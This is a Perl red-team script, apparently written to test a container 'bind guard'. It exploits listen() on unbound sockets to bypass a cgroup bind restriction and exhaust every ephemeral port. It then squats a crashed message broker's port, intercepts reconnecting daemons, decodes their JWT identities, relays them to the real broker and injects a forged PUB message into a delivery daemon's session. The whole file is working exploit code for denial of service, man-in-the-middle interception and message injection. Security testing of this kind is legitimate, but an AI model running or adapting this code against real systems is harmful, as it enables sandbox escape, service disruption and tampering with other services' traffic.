#!/usr/bin/perl
# Red team 34 (--net host, under the bind guard): bind(2) is refused, but listen(2) on a socket
# that was never bound makes the kernel pick a port of its own (inet_csk_get_port(sk, 0)), with
# no cgroup bind hook on that path. Held from a few processes (RLIMIT_NOFILE is per process),
# such sockets take every free port of ip_local_port_range.
#
# Usage: perl autobind.pl <out dir> fill
#   hold every free ephemeral port (writes held.<k> counts and "full" to autobind.log)
# Usage: perl autobind.pl <out dir> mitm <port> <hold ms> <inject subject>
#   fill, then keep calling listen() on fresh unbound sockets: the only port that can come
#   free is one a victim lets go (the broker's, in a crash). Once the kernel hands it over,
#   accept every redialing daemon for <hold ms>, let the port go so the watchdog's broker can
#   bind it again, and splice each held client onto the REAL broker (the client signs the real
#   nonce); in the delivery daemon's session publish <inject subject> between whole messages.
use strict;
use warnings;
use Socket qw(PF_INET SOCK_STREAM SOL_SOCKET SO_REUSEADDR inet_aton pack_sockaddr_in unpack_sockaddr_in);
use IO::Handle;
use IO::Select;
use MIME::Base64 qw(decode_base64);
use POSIX qw(:errno_h);
use Time::HiRes qw(time sleep);

my ($out, $mode, $target, $holdMs, $inject) = @ARGV;
$holdMs //= 1500;
open(my $L, '>>', "$out/autobind.log") or die "log: $!";
$L->autoflush(1);
sub say { my $m = shift; printf $L "%.3f %s\n", time, $m; }
say("started mode=$mode");

# Is bind refused? (the guard's proof that the attack runs under it)
{
  socket(my $b, PF_INET, SOCK_STREAM, 0) or die;
  if (bind($b, pack_sockaddr_in(0, inet_aton('127.0.0.1')))) { say("bind allowed"); }
  else { say("bind refused: $!"); }
  close $b;
}

sub unbound_listen {
  my ($reuse) = @_;
  socket(my $fh, PF_INET, SOCK_STREAM, 0) or return (undef, "socket: $!");
  # SO_REUSEADDR, as nats-server's own listener: the dead broker's accepted sockets linger in
  # TIME_WAIT on its port, which a socket without it may not share.
  setsockopt($fh, SOL_SOCKET, SO_REUSEADDR, 1) if $reuse;
  if (!listen($fh, 512)) { my $e = "$!"; close $fh; return (undef, $e); }
  my ($p) = unpack_sockaddr_in(getsockname($fh));
  return ($fh, $p);
}

# Fill: 8 children of 3,900 sockets each.
my @kids;
for my $k (0 .. 7) {
  my $pid = fork();
  die "fork: $!" unless defined $pid;
  if ($pid == 0) {
    my @held;
    my $why = '';
    my $fails = 0;
    while (@held < 3900 && $fails < 40) {
      my ($fh, $p) = unbound_listen();
      if (!$fh) { $why = $p; $fails++; sleep 0.05; next; }
      $fails = 0;
      push @held, $fh;
    }
    open(my $o, '>', "$out/held.$k.tmp") or die;
    print $o scalar(@held) . " $why\n";
    close $o;
    rename("$out/held.$k.tmp", "$out/held.$k");
    sleep 100000 while 1;
    exit 0;
  }
  push @kids, $pid;
  sleep 0.3;
}
my $total = 0;
for my $k (0 .. 7) {
  sleep 0.05 until -e "$out/held.$k";
  open(my $i, '<', "$out/held.$k") or die;
  my $l = <$i>;
  $total += (split(/ /, $l))[0];
}
say("full: $total ports held");
open(my $F, '>', "$out/full") or die; print $F "$total\n"; close $F;

if ($mode ne 'mitm') { sleep 100000 while 1; }

# Snipe: whatever comes free is taken; the victim's port is what we wait for.
my @extra;
my $lsn;
my $tries = 0;
for (;;) {
  my ($fh, $p) = unbound_listen(1);
  $tries++;
  if ($fh) {
    if ($p == $target) { $lsn = $fh; last; }
    say("took $p (not the target), kept");
    push @extra, $fh;
    next;
  }
  sleep 0.002;
}
say("squatted $target after $tries listen() calls");
# The fillers go: the daemons' redials need source ports again, and they land here.
kill('KILL', @kids);
waitpid($_, 0) for @kids;
close($_) for @extra;
say("fillers released");
my $sel = IO::Select->new($lsn);
my @held;
my $t0 = time;
while (time - $t0 < $holdMs / 1000 || !@held) {
  if ($sel->can_read(0.05)) {
    my $c;
    accept($c, $lsn) and push @held, $c;
  }
}
close $lsn;
say("released with " . scalar(@held) . " held");

sub readline_fh {
  my ($fh) = @_;
  my $acc = '';
  while (index($acc, "\n") < 0) {
    my $n = sysread($fh, my $buf, 65536);
    return (undef, undef) unless $n;
    $acc .= $buf;
  }
  my $i = index($acc, "\n");
  return (substr($acc, 0, $i + 1), substr($acc, $i + 1));
}

sub relay {
  my ($client, $k) = @_;
  my $up;
  my $end = time + 60;
  while (time < $end) {
    socket($up, PF_INET, SOCK_STREAM, 0) or die;
    last if connect($up, pack_sockaddr_in($target, inet_aton('127.0.0.1')));
    close $up; undef $up;
    sleep 0.02;
  }
  if (!$up) { say("#$k no upstream"); return; }
  my ($info, $r0) = readline_fh($up);
  return say("#$k no INFO") unless defined $info;
  syswrite($client, $info . $r0);
  my ($first, $rest) = readline_fh($client);
  return say("#$k client said nothing") unless defined $first;
  my $who = '?';
  if ($first =~ /"jwt":"[^".]+\.([^".]+)\./) {
    my $b = $1; $b =~ tr/-_/+\//; $b .= '=' x ((4 - length($b) % 4) % 4);
    my $c = decode_base64($b);
    my ($name) = $c =~ /"name":"([^"]*)"/;
    my ($sub) = $c =~ /"sub":"([^"]*)"/;
    my $signed = $first =~ /"sig":"/ ? 'true' : 'false';
    $who = "$name sub=$sub signed=$signed";
  } else {
    $who = 'unparsed ' . substr($first, 0, 80);
  }
  syswrite($up, $first);
  syswrite($up, $rest) if length $rest;
  if ($inject && $who =~ /^delivery /) {
    syswrite($up, "PUB $inject 0\r\n\r\n");
    say("#$k injected PUB $inject as $who");
  }
  my $verdict = '';
  my $said = 0;
  my $s = IO::Select->new($client, $up);
  for (;;) {
    my @r = $s->can_read(5);
    for my $fh (@r) {
      my $n = sysread($fh, my $buf, 65536);
      if (!$n) { say("#$k closed") ; return; }
      if ($fh == $up) {
        if (!$said) {
          $verdict .= $buf;
          if ($verdict =~ /(-ERR[^\r\n]*)/) { say("#$k $who -> $1"); $said = 1; }
          elsif ($verdict =~ /PONG/) { say("#$k $who -> PONG (authenticated)"); $said = 1; }
        }
        syswrite($client, $buf);
      } else {
        syswrite($up, $buf);
      }
    }
  }
}

my $k = 0;
for my $c (@held) {
  my $pid = fork();
  if (defined $pid && $pid == 0) { relay($c, $k); exit 0; }
  $k++;
}
sleep 100000 while 1;
